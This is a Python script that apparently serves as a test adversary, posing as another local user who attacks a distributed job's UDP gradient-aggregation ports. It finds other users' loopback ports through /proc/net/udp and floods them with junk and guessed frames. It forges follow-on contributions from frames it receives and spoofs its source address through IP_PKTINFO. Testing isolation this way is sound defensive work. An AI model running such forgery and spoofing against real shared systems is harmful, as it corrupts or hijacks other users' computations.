"""Another user of the machine, who tries to get at a job's sums through the UDP ports of a run.

A line on standard input is one round: it finds the ports in ``/proc/net/udp``, sends each of them junk and
contributions that are guessed, forges contributions from every frame that comes back, tries to send in the
name of each port, and says in a line of JSON what it has done so far. To be started by root; loads all that
it needs before it becomes another user.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
from pathlib import Path

NOBODY = 65534
INA = 42  # where that header begins in a frame
GRADIENT = 0x21
AHEAD = range(500, 540)  # of a learnt frame: what workers with the usual window send next
LANES = 32
HEADER = struct.Struct("!BBHIIBBBBHHIHH")
ROUND_DATAGRAMS = 4
IP_PKTINFO = 8
IN_THE_NAME_OF = [
    (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("@I4s4s", 0, socket.inet_aton("127.0.0.1"), bytes(4)))
]
ELSEWHERE = "127.0.0.2"
PAUSE_S = 0.02  # for answers: few rounds, so that what is diverted is asked for again, and nobody notices


def targets() -> list[int]:
    """Return the UDP ports on loopback that somebody else has open."""
    rows = [line.split() for line in Path("/proc/net/udp").read_text().splitlines()[1:]]
    return [int(row[1][9:], 16) for row in rows if row[1].startswith("0100007F") and int(row[7]) != NOBODY]


def forgeries(frame: bytes) -> list[bytes]:
    """Return contributions of other ranks to the packets that come after a learnt one."""
    _, _, job, psn, _, fan_in, *rest, lanes, tag, node, target = HEADER.unpack_from(frame, INA)
    values = struct.pack(f"!{lanes}i", *([1 << 20] * lanes))
    made = []
    for ahead in AHEAD:
        for child in range(fan_in):
            fields = (job, (psn + ahead) % 2**32, 1 << child, fan_in, *rest, lanes, tag, node, target)
            made.append(frame[:INA] + HEADER.pack(GRADIENT, 0, *fields) + values)
    return made


def guess(port: int, number: int) -> bytes:
    """Return a contribution as the first job's would be."""
    payload = HEADER.pack(
        GRADIENT, 0, 1 + number % 3, number, 1 << number % 2, 2, 0, 0, 1, LANES, LANES, 0, 0, 0xFFFF
    ) + bytes(4 * LANES)
    udp = struct.pack("!HHHH", 42592, 42592, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, b"\n\0\0\1", b"\n\0\xff\1")
    total = sum(struct.unpack("!10H", ip))
    checksum = ~(total % 0xFFFF) & 0xFFFF
    ethernet = bytes.fromhex("02000000ff01 020000000001 0800")
    return ethernet + ip[:10] + checksum.to_bytes(2, "big") + ip[12:] + udp + payload


def disguise(port: int) -> socket.socket | None:
    """Return a socket that sends as 127.0.0.1 from a port, if it can be had at another address."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        made.bind((ELSEWHERE, port))
    except OSError:
        made.close()
        return None
    return made


def main() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    sockets: dict[int, socket.socket] = {}
    disguises: dict[int, socket.socket] = {}
    sent = leaked = forged = number = 0
    for _ in sys.stdin:
        for port in targets():
            if port not in sockets:
                sockets[port] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                sockets[port].setblocking(False)
            junk = [b"junk", *(guess(port, number + i) for i in range(ROUND_DATAGRAMS - 1))]
            number += 1
            for datagram in junk:
                sockets[port].sendto(datagram, ("127.0.0.1", port))
                sent += 1
            if port not in disguises and (found := disguise(port)):
                disguises[port] = found
        for made in disguises.values():
            for port in sockets:
                with contextlib.suppress(OSError):
                    made.sendmsg([guess(port, number)], IN_THE_NAME_OF, 0, ("127.0.0.1", port))
        for one in select.select(list(sockets.values()), [], [], PAUSE_S)[0]:
            try:
                frame, (_, port) = one.recvfrom(65536)
            except OSError:  # nobody there any more
                continue
            leaked += 1
            if len(frame) < INA + HEADER.size or frame[INA] != 0x22:
                continue
            for forgery in forgeries(frame):
                try:
                    one.sendto(forgery, ("127.0.0.1", port))
                    sent += 1
                    forged += 1
                except OSError:
                    break
        said = {
            "uid": os.getuid(),
            "ports": sorted(sockets),
            "sent": sent,
            "leaked": leaked,
            "forged": forged,
            "disguised": sorted(disguises),
        }
        print(json.dumps(said), flush=True)


if __name__ == "__main__":
    main()
